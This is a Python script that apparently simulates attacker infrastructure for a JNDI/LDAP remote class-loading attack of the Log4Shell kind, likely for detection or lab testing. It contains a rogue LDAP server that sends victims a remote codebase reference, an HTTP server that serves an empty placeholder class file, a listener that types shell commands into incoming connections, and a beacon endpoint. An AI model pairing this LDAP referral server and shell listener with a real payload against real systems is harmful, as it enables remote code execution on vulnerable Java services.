#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The other side of the stand-in: LDAP that points at a class file, the file
(no code in it), a listener that types a few commands, and a beacon's server."""
import socket
import socketserver
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ME = sys.argv[1]
socket.getfqdn = str  # the server class would ask DNS for its own name
socketserver.TCPServer.allow_reuse_address = True


def ber(tag, *parts):
    body = b''.join(parts)
    size = bytes([len(body)]) if len(body) < 128 else b'\x81' + bytes([len(body)])
    return bytes([tag]) + size + body


def attribute(name, value):
    return ber(0x30, ber(4, name), ber(0x31, ber(4, value)))


ENTRY = ber(0x30, b'\x02\x01\x02', ber(0x64, ber(4, b'Exploit'), ber(
    0x30, attribute(b'javaClassName', b'foo'),
    attribute(b'javaCodeBase', b'http://%s:8000/' % ME.encode()),
    attribute(b'objectClass', b'javaNamingReference'),
    attribute(b'javaFactory', b'Exploit'))))
DONE = bytes.fromhex('300c02010265070a010004000400')


class Ldap(socketserver.BaseRequestHandler):
    def handle(self):
        self.request.recv(512)
        self.request.sendall(bytes.fromhex('300c02010161070a010004000400'))
        self.request.recv(512)
        self.request.sendall(ENTRY + DONE)
        self.request.recv(512)


class Listener(socketserver.BaseRequestHandler):
    def handle(self):
        for command in (b'id', b'hostname', b'exit'):
            self.request.recv(4096)
            self.request.sendall(command + b'\n')


class Files(BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'

    def do_GET(self):
        body = b'\xca\xfe\xba\xbe\x00\x00\x004' + bytes(600) if self.path.endswith('.class') else b'ok' * 2000
        self.send_response(200)
        self.send_header('Content-Type', 'application/octet-stream')
        self.send_header('Content-Length', str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.rfile.read(int(self.headers['Content-Length']))
        self.do_GET()

    def log_message(self, *_):
        pass


servers = [socketserver.ThreadingTCPServer((ME, 1389), Ldap),
           socketserver.ThreadingTCPServer((ME, 4444), Listener),
           ThreadingHTTPServer((ME, 8000), Files), ThreadingHTTPServer((ME, 80), Files)]
threads = [threading.Thread(target=s.serve_forever) for s in servers]
for t in threads:
    t.start()
for t in threads:
    t.join()
